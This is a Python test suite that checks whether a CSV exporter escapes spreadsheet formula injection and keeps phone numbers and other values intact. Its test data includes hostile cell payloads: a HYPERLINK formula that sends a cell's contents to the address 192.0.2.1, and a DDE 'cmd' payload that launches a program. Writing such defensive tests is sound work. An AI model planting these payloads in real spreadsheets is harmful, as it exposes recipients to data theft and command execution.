"""Does a CSV for spreadsheets come out of one as it went in, and run nothing?"""

import csv
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from capillary_interactions.jobs import CustomerList, ExportError, Job
from capillary_interactions.jobs._export.spreadsheet_cells import (
    BYTE_ORDER_MARK,
    safe_cell,
    safe_text,
)
from capillary_interactions.sandbox import Sandbox
from tests.tables import table

from .jobs_under_test import client_of, mobile, write_csv

_XML = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# What a spreadsheet would run, or take for a number or a day and show otherwise.
_MARKED = (
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"Click")', "=2+5", "@SUM(1)", "+1", "-2+3", "\t=9",
    "\r=9", " =9", "=cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "|x", "%x",
    "+919738522695", "00919738522695", "0005", "919738522695", "12345678901234567890", "1E5",
    "1.50", "1,234", "1/2", "1-2", "3.4.2026", "50%", "1 234", "'quoted", "-5", "\n=1",
    "919 738 522 695", "12345678901234567890.5",
)  # fmt: skip
_PLAIN = (
    "Asha", "42", "0", "1.5", "12345678901", "a=b", "someone@example.com", "2026-01-05", "N 1",
    "12 Main Street", "", "\u00fc", "sale; -)", "2026-01-05T10:00:00Z",
)  # fmt: skip


@table("text", _MARKED)
def test_marks_what_a_spreadsheet_would_change(text: str) -> None:
    """By an apostrophe in front, which says that it is text."""
    assert safe_text(text) == f"'{text}"


@table("text", _PLAIN)
def test_leaves_the_rest_alone(text: str) -> None:
    """A name is no formula, and a number that stays the same may be added up."""
    assert safe_text(text) == text


def test_marks_what_begins_behind_a_semicolon() -> None:
    """Where that separates columns, a spreadsheet may split within the cell."""
    assert safe_text("a;=1+1") == "a;'=1+1"
    assert safe_text('a;"=1+1') == "a;\"'=1+1"
    assert safe_text("a\n+1") == "a\n'+1"


@table(
    ("value", "expected"),
    [(5, 5), (-5, -5), (10**12, "'1000000000000"), (0.015, 0.015), (True, True), (None, None)],
)
def test_marks_numbers_that_are_too_long(value: object, expected: object) -> None:
    """Their last digits would be lost."""
    assert safe_cell(value) == expected


@given(st.text())
def test_never_begins_with_a_formula(text: str) -> None:
    """Whatever stands in front of it."""
    marked = safe_text(text)
    assert not marked.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d"))
    assert marked.replace("'", "").endswith(text.replace("'", ""))


async def _exported(folder: Path, name: str, *, for_spreadsheets: bool) -> Path:
    texts = [text for text in _MARKED if text.isprintable()]
    rows = [(text, mobile(n)) for n, text in enumerate(texts)]
    path = write_csv(folder / "l.csv", [("=1+1", "mobile"), *rows])
    bad = orjson.dumps({
        "name": "capillary",
        "interaction": [
            {"count": 1, "name": "email", "messageList": [{"id": 1, "subject": "=1+2"}]}
        ],
        "warnings": [],
    })  # fmt: skip
    async with Sandbox(unknown=0, answers={mobile(0): (200, {}, bad)}) as sandbox:
        customers = CustomerList(path, identifier="mobile")
        async with client_of(sandbox) as client, Job.open(folder / "a.job", customers) as job:
            await job.run(client)
            await job.export(folder / name, for_spreadsheets=for_spreadsheets)
    return folder / name


async def test_writes_it_on_demand(tmp_path: Path) -> None:
    """With a mark, the header, the list's cells and the server's texts too."""
    out = await _exported(tmp_path, "o.csv", for_spreadsheets=True)
    text = out.read_text("utf-8")
    assert text.startswith(BYTE_ORDER_MARK)
    first, *_ = csv.DictReader(text.removeprefix(BYTE_ORDER_MARK).splitlines())
    assert first["'=1+1"] == f"'{_MARKED[0]}"
    assert first["mobile"] == first["identifier"] == f"'{mobile(0)}"
    assert first["subject"] == "'=1+2"


async def test_writes_a_csv_for_programs_by_default(tmp_path: Path) -> None:
    """The default has no mark, and every cell as it was."""
    out = await _exported(tmp_path, "o.csv", for_spreadsheets=False)
    text = out.read_text("utf-8")
    assert not text.startswith(BYTE_ORDER_MARK)
    first, *_ = csv.DictReader(text.splitlines())
    assert (first["=1+1"], first["mobile"]) == (_MARKED[0], mobile(0))


async def test_refuses_another_format(tmp_path: Path) -> None:
    """Before anything is written."""
    with pytest.raises(ExportError, match="only a CSV can be written for spreadsheets"):
        await _exported(tmp_path, "o.parquet", for_spreadsheets=True)


@pytest.mark.skipif(shutil.which("ssconvert") is None, reason="Gnumeric is not installed")
async def test_comes_out_of_a_spreadsheet_as_it_went_in(tmp_path: Path) -> None:
    """Phone numbers, signs, zeros and formulas are text there, with every character."""
    out = await _exported(tmp_path, "o.csv", for_spreadsheets=True)
    book = tmp_path / "o.xlsx"
    subprocess.run(["ssconvert", out, book], check=True, capture_output=True)  # noqa: ASYNC221, S603, S607
    texts = _texts(book)
    assert {"=1+1", "=1+2"} <= texts
    assert {text for text in _MARKED if text.isprintable()} <= texts
    assert mobile(0) in texts


def _texts(book: Path) -> set[str]:
    """The texts of a workbook; none of it is a formula."""
    with zipfile.ZipFile(book) as parts:
        sheet = ET.fromstring(parts.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - ours
        shared = ET.fromstring(parts.read("xl/sharedStrings.xml"))  # noqa: S314
    assert not [*sheet.iter(f"{_XML}f")]
    return {str(item.text) for part in (sheet, shared) for item in part.iter(f"{_XML}t")}
